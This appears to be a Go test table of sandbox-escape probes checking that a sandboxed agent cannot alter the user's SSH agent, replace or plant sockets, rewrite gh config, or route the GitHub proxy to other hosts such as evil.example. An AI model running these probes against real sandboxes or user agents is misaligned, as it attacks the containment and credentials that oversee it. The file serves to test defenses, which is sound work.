package escape

// sshRows: with --ssh the sandbox's SSH_AUTH_SOCK is the supervisor's filter
// (internal/sshagent), never the user's agent. Requests that change the user's
// agent are answered SSH_AGENT_FAILURE by the filter itself; the fixture's
// "agent" answers nothing, so a request forwarded to it would hang the row
// (PROBE-ERROR). Messages are hex with their length prefix.
var sshRows = []row{
	// The host's agent socket stays out of the view, --ssh or not.
	{name: "ssh_host_agent_socket", flags: []string{"--ssh"}, args: probe("connect-unix", "{agentsock}"), want: "DENIED ENOENT"},
	// ... and when the user puts it in view (its directory bound, read-only
	// or not: a connect needs no write), --ssh refuses to start: the
	// filter would stand beside the user's agent, not in front of it.
	{name: "ssh_host_agent_socket_in_view", flags: []string{"--ssh", "--ro", "{agentdir}"},
		args: probe("connect-unix", "{agentsock}"), want: refused, refused: "which the sandbox sees"},
	{name: "ssh_remove_all_identities", flags: []string{"--ssh"}, args: probe("agent-request", "0000000113"), want: "DENIED AGENT-FAILURE"},
	{name: "ssh_remove_identity", flags: []string{"--ssh"}, args: probe("agent-request", "000000091200000004ffffffff"), want: "DENIED AGENT-FAILURE"},
	{name: "ssh_add_identity", flags: []string{"--ssh"}, args: probe("agent-request", "0000000b1100000003616263000000"), want: "DENIED AGENT-FAILURE"},
	// lock with passphrase "pass": would lock the user out of their own agent.
	{name: "ssh_lock", flags: []string{"--ssh"}, args: probe("agent-request", "00000009160000000470617373"), want: "DENIED AGENT-FAILURE"},
	{name: "ssh_unlock", flags: []string{"--ssh"}, args: probe("agent-request", "00000009170000000470617373"), want: "DENIED AGENT-FAILURE"},
	{name: "ssh_add_smartcard", flags: []string{"--ssh"}, args: probe("agent-request", "0000000914000000042f6c6962"), want: "DENIED AGENT-FAILURE"},
	{name: "ssh_add_constrained", flags: []string{"--ssh"}, args: probe("agent-request", "0000000119"), want: "DENIED AGENT-FAILURE"},
	{name: "ssh_ssh1_remove_all", flags: []string{"--ssh"}, args: probe("agent-request", "0000000109"), want: "DENIED AGENT-FAILURE"},
	// The query extension would list what else the user's agent can do.
	{name: "ssh_extension_query", flags: []string{"--ssh"}, args: probe("agent-request", "0000000a1b000000057175657279"), want: "DENIED AGENT-FAILURE"},
	// Past the protocol's 256 KiB: refused, never read into memory.
	{name: "ssh_oversize_message", flags: []string{"--ssh"}, args: probe("agent-request", "ffffffff0b"), want: "DENIED AGENT-FAILURE"},
	// A string that claims more than the message holds.
	{name: "ssh_malformed_sign", flags: []string{"--ssh"}, args: probe("agent-request", "000000050d7fffffff"), want: "DENIED AGENT-FAILURE"},
	// After garbage the filter still answers the next connection.
	{name: "ssh_filter_survives", flags: []string{"--ssh"},
		args: sh("{probe} agent-request 00000000 >/dev/null; {probe} agent-request 000000050d7fffffff >/dev/null; {probe} agent-request 0000000113"),
		want: "DENIED AGENT-FAILURE"},
	// The socket's directory is read-only: the agent cannot put a socket of
	// its own (one that records what a client asks) in its place.
	{name: "ssh_replace_socket", flags: []string{"--ssh"}, args: probe("unlink", "/run/stockade/ssh-agent/agent.sock"), want: "DENIED EROFS"},
	{name: "ssh_plant_socket", flags: []string{"--ssh"}, args: probe("create", "/run/stockade/ssh-agent/x"), want: "DENIED EROFS"},
}

// ghRows: with --gh the sandbox holds the placeholder, and gh's socket and
// config are the supervisor's (read-only). No row lets a request reach the
// real api.github.com: each is refused before the upstream.
var ghRows = []row{
	{name: "gh_token_placeholder", flags: []string{"--gh"}, args: sh(`echo "$GH_TOKEN $GITHUB_TOKEN"`), want: "sk-proxy sk-proxy"},
	// The socket serves api.github.com only: not a way to another host or
	// route (the anthropic key is the fixture's too).
	{name: "gh_socket_other_host", flags: []string{"--gh"},
		args: sh(`curl -s -o /dev/null -w '%{http_code}\n' --unix-socket /run/stockade/gh/http.sock -H 'X-Api-Key: sk-proxy' http://api.anthropic.com/anthropic/v1/models`),
		want: "421"},
	// A proxy-style request for another host, with gh's own Host.
	{name: "gh_socket_absolute_form", flags: []string{"--gh"},
		args: sh(`curl -s -o /dev/null -w '%{http_code}\n' --unix-socket /run/stockade/gh/http.sock --request-target http://evil.example/ -H 'Authorization: token sk-proxy' http://api.github.com/`),
		want: "405"},
	{name: "gh_replace_socket", flags: []string{"--gh"}, args: probe("unlink", "/run/stockade/gh/http.sock"), want: "DENIED EROFS"},
	// A config of the agent's own would send gh (and the placeholder) elsewhere.
	{name: "gh_rewrite_config", flags: []string{"--gh"}, args: probe("write", "/run/stockade/gh/config.yml"), want: "DENIED EROFS"},
}
